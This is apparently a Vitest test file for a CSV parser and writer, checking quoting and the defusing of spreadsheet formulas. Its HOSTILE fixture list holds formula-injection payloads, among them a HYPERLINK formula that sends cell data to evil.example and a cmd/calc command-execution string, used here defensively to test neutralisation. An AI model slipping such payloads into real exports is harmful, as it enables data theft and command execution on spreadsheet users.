import { describe, expect, it } from 'vitest'
import { csvField, csvLine, CsvSyntaxError, defuseFormulas, parseCsv } from './csv'
import { formulaCells, spreadsheetCells } from '../test/spreadsheet'

describe('CSV', () => {
  it('reads quoted fields, doubled quotes, line breaks in quotes, CRLF, a byte order mark and blank lines', () => {
    const text = '\uFEFFa,b,c\r\n"x, y","say ""hi""","two\nlines"\r\n\r\n,,\r\n1,,3\n'
    expect(parseCsv(text)).toEqual([
      { line: 1, fields: ['a', 'b', 'c'] },
      { line: 2, fields: ['x, y', 'say "hi"', 'two\nlines'] },
      { line: 6, fields: ['1', '', '3'] },
    ])
  })

  it('names the line of a quote left open or misplaced', () => {
    expect(() => parseCsv('a,b\n"open,c\n')).toThrow(CsvSyntaxError)
    expect(() => parseCsv('a,b\nx"y,c\n')).toThrow(/quote inside/)
  })

  it('writes every field quoted, with a formula at its start defused', () => {
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
    expect(csvField('plain')).toBe('"plain"')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField(null)).toBe('""')
    expect(csvField(5)).toBe('"5"')
    expect(csvField('a;=1+1')).toBe(`"a;'=1+1"`)
    expect(parseCsv(`${csvField('line\nbreak')},${csvField('q"uote')}\r\n`)).toEqual([{ line: 1, fields: ['line\nbreak', 'q"uote'] }])
  })

  it('defuses exactly where a formula could start: at the start and after every cell break, also where one breaks and starts a cell', () => {
    // The rule, one character at a time, as a spreadsheet reads it.
    const starts = '=+-@\t\r\uFF1D\uFF0B\uFF0D\uFF20'
    const breaks = ',;\t\r\n'
    const byHand = (text: string) => [...text].map((ch, i) => (starts.includes(ch) && (i === 0 || breaks.includes(text[i - 1]!)) ? `'${ch}` : ch)).join('')
    expect(defuseFormulas('\t\t=')).toBe("'\t'\t'=")
    const alphabet = [...starts, ...breaks, 'a', '1', ' ', '"', "'"]
    let seed = 7
    const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) % alphabet.length
    for (let n = 0; n < 5000; n++) {
      const text = Array.from({ length: 1 + (n % 12) }, () => alphabet[next()]).join('')
      expect(defuseFormulas(text), JSON.stringify(text)).toBe(byHand(text))
    }
  })

  // Values people write in reviews, names and addresses, and what an attacker would put there.
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '+1+1',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    'a;=1+1',
    'a,=1+1',
    "a;+cmd|' /C calc'!A0",
    'x\t@y',
    'first line\n=1+1',
    'first line\n\n-1',
    ';;=2*3',
    '\uFF1D1+1',
    'say "=1+1"',
  ]
  const HARMLESS = ['Plain text', 'Title, "quoted"', 'Line one\nline two', 'a - b', 'x = y', '5', '2026-11-27T05:00:00.000Z', 'e-mail@example.com', '']

  it('gives a spreadsheet no formula, whether it opens the file with commas or semicolons, and reads back what was written', () => {
    const rows = [['Text', 'Other'], ...HOSTILE.map((value) => [value, 'after']), ...HARMLESS.map((value) => [value, 'after'])]
    const csv = rows.map(csvLine).join('')
    expect(formulaCells(csv)).toEqual([])
    // Opened with the file's own separator, each cell reads back as written: harmless values as
    // they are, hostile ones with the apostrophe that keeps them text.
    const read = spreadsheetCells(csv, ',').map((row) => row.map((cell) => cell.text))
    expect(read).toEqual(rows.map((row) => row.map(defuseFormulas)))
    expect(read.slice(1 + HOSTILE.length).map((row) => row[0])).toEqual(HARMLESS)
    // Opened with semicolons, no cell a spreadsheet shows starts as a formula either.
    for (const row of spreadsheetCells(csv, ';')) for (const cell of row) expect(cell.text).not.toMatch(/^[=+\-@\t\r\uFF1D]/)
  })
})
